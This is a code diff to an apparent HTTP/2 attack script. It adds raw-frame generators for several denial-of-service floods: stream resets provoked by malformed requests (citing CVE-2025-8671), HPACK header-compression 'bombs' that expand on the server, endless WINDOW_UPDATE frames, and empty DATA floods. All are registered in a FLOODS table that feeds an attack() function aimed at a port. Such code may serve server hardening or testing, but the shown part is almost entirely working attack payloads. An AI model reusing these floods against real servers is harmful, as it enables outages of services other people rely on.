@@ -51,13 +51,33 @@ def continuations():
         yield frame(CONTINUATION, 0, 1, b"\x40\x01a\x7f\x81\x7f" + b"b" * 254) * 8
 
 
+def made_resets():
+    """Streams whose own errors make the other side reset them (CVE-2025-8671)."""
+    head = GET + b"\x0f\x0d\x011"  # content-length: 1
+    for stream in odd():
+        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, b"two")
+
+
+def bombs():
+    """A large field kept in the table and named by a byte each time: heads that unfold."""
+    kept = b"\x40\x01b\x7f\xb9\x16" + b"b" * 3000
+    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + kept + b"\xbe" * 5000)
+    for stream in odd(3):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 16000)
+
+
+def window_updates():
+    while True:
+        yield frame(8, payload=b"\0\0\0\x01") * 500
+
+
 def empty_data():
     yield frame(HEADERS, END_HEADERS, 1, GET)
     while True:
         yield frame(DATA, 0, 1) * 500
 
 
-FLOODS = {f.__name__: f for f in (pings, settings, rapid_resets, continuations, empty_data)}
+FLOODS = {f.__name__: f for f in (pings, settings, rapid_resets, made_resets, continuations, bombs, window_updates, empty_data)}
 
 
 def attack(port, flood, until):
